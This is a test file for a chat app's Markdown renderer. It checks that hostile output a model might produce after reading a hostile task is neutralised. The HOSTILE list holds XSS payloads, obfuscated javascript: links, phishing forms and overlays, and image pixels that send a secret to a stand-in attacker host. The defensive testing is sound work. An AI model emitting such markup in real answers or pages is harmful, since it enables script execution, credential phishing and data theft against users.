// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react'
import { renderToStaticMarkup } from 'react-dom/server'
import { afterEach, describe, expect, test } from 'vitest'
import Markdown from '@/components/chat/markdown'

afterEach(cleanup)

/** What a model may write after it has read a hostile task. */
const HOSTILE = [
  '<script>window.stolen = true</script>',
  '<img src=x onerror="window.stolen = true">',
  '<svg onload="window.stolen = true"><a href="javascript:alert(1)">x</a></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.stolen = true</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<style>body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<div style="position:fixed;inset:0">Sign in again</div>',
  '[press](javascript:alert(1))',
  '[press](JaVaScRiPt:alert(1))',
  '[press](java\nscript:alert(1))',
  '[press](\tjavascript:alert(1))',
  '[press](&#106;avascript:alert(1))',
  '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[press](vbscript:msgbox(1))',
  '[press](file:///etc/passwd)',
  '[press](blob:https://evil.example/1)',
  '[press](/api/auth/sign-out)',
  '[press](//evil.example)',
  '[press](https:evil.example)',
  '![pixel](https://evil.example/pixel.png?secret=1)',
  '![pixel](//evil.example/pixel.png)',
  '![pixel](data:image/svg+xml,<svg onload=alert(1)>)',
  '![pixel][1]\n\n[1]: https://evil.example/pixel.png',
  '[![pixel](https://evil.example/pixel.png)](javascript:alert(1))',
  '<https://evil.example/"onmouseover="alert(1)>',
  '[press](https://evil.example/" onmouseover="alert(1))',
  '[press][2]\n\n[2]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '| a |\n|:--:|\n| <img src=x onerror=alert(1)> |',
  '- [x] <input autofocus onfocus=alert(1)>',
  '```html\n<script>window.stolen = true</script>\n```',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [press](javascript:alert(1))',
]

const ELEMENTS =
  'script, img, svg, iframe, form, input, button, style, link, meta, base, object, embed, video, audio, picture, source'

/** Everything in these elements that could run, load or disguise something, one sentence each. */
function dangers(root: Element): string[] {
  const elements = [...root.querySelectorAll('*')]
  const attributes = elements.flatMap((element) =>
    [...element.attributes].map(({ name, value }) => ({ name, value, element })),
  )
  return [
    ...[...root.querySelectorAll(ELEMENTS)].map((element) => `a ${element.localName}`),
    ...attributes.filter(({ name }) => name.startsWith('on')).map(({ name }) => `a handler ${name}`),
    ...attributes
      .filter(({ name }) => ['style', 'src', 'srcset', 'srcdoc', 'action', 'ping'].includes(name))
      .map(({ name }) => `an attribute ${name}`),
    ...attributes
      .filter(({ name, value }) => name === 'href' && !/^(https?:\/\/|mailto:)/.test(value))
      .map(({ value }) => `a link to ${value}`),
    ...attributes
      .filter(({ name, element }) => name === 'href' && element.getAttribute('rel') !== 'noopener noreferrer nofollow')
      .map(() => 'a link that lends its window'),
  ]
}

describe('an answer that was made hostile', () => {
  test.each(HOSTILE)('%s', (text) => {
    const { container } = render(<Markdown text={text} />)
    expect(dangers(container)).toEqual([])
    // What the server sends is the same, and carries no inline style for the page's policy to refuse.
    const delivered = document.createElement('div')
    delivered.innerHTML = renderToStaticMarkup(<Markdown text={text} />)
    expect(dangers(delivered)).toEqual([])
  })

  test('the same words as HTML would be dangerous, so the check can fail', () => {
    const harmless = HOSTILE.filter((text) => {
      const root = document.createElement('div')
      root.innerHTML = text
      return dangers(root).length === 0
    })
    // Those in markdown need a reader of markdown; all that are HTML are recognised.
    expect(harmless.filter((text) => /^<(?!https|javascript)/.test(text))).toEqual([])
    const root = document.createElement('div')
    root.innerHTML = '<a href="javascript:alert(1)" rel="noopener noreferrer nofollow">press</a>'
    expect(dangers(root)).toEqual(['a link to javascript:alert(1)'])
  })
})

test('a link says where it leads, unless its own words do', () => {
  const { container } = render(<Markdown text={'[Sign in](https://evil.example/x) and https://example.org/a'} />)
  expect(container.textContent?.trim()).toBe('Sign in (evil.example) and https://example.org/a')
  expect(container.querySelectorAll('a[target=_blank]')).toHaveLength(2)
})

test('what models write as a matter of course is shown as such', () => {
  const text =
    '# Plan\n\n1. **Bold** and ~~gone~~\n2. `code`\n\n| Task | Due |\n|---|---:|\n| Milk | today |\n\n- [x] done'
  const { container } = render(<Markdown text={text} />)
  for (const selector of ['h3', 'ol > li > strong', 'del', 'code', 'table td', 'ul li']) {
    expect(container.querySelector(selector), selector).not.toBeNull()
  }
  expect(container.querySelector('h1')).toBeNull()
  expect(container.textContent).toContain('☑ done')
})
